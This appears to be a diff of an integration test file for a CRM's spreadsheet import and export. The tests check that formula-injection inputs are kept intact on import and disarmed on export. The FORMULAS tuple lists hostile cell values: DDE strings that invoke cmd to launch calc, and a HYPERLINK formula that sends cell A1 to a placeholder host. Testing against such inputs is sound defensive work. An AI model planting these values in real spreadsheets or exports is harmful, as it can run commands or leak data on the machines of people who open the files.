@@ -4,36 +4,32 @@ from __future__ import annotations
 
 import csv
 import io
-from collections.abc import Callable
-from typing import Any
 
 import httpx
 import openpyxl
-import pytest
 from sqlalchemy import select
 
 from crm_core.db import reading
 from crm_core.tables import customers
-from tests.workstation.conftest import house
+from tests.workstation.exchange import ALL, Work, asked, house, number_of, open_house, send, work
 from tests.workstation.house import House
-from tests.workstation.test_exchange_pages import asked, number_of, send, work
 
-pytestmark = pytest.mark.integration
-__all__ = ["house", "work"]
+pytestmark = ALL
+__all__ = ["house", "open_house", "work"]
 FORMULAS = (
     *("=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=DDE("cmd";"/C";"x")'),
     '=HYPERLINK("http://x/?"&A1,"more")',
 )
 
 
-async def fetched(client: httpx.AsyncClient, work: Callable[[], Any], **wish: str) -> bytes:
+async def fetched(client: httpx.AsyncClient, work: Work, **wish: str) -> bytes:
     key = number_of(await asked(client, **wish))
     await work()
     link = (await client.post(f"/office/exports/{key}/link")).headers["location"]
     return (await client.get(link)).content
 
 
-async def test_formulas_come_in_as_they_are_and_go_out_disarmed(house: House, work: Callable[[], Any]) -> None:
+async def test_formulas_come_in_as_they_are_and_go_out_disarmed(house: House, work: Work) -> None:
     out = io.StringIO()
     csv.writer(out).writerows(
         [["account", "name", "address"], *([f"88{n}", text, text] for n, text in enumerate(FORMULAS))]
@@ -58,7 +54,7 @@ async def test_formulas_come_in_as_they_are_and_go_out_disarmed(house: House, wo
         assert not any(cell.hyperlink for cell in cells)
 
 
-async def test_rejected_rows_are_harmless_to_open(house: House, work: Callable[[], Any]) -> None:
+async def test_rejected_rows_are_harmless_to_open(house: House, work: Work) -> None:
     content = "account,name,address,phone\n77,=1+1,@x,not a number\n"
     async with house.signed_in("marta") as client:
         key = number_of(await send(client, "a.csv", content.encode()))
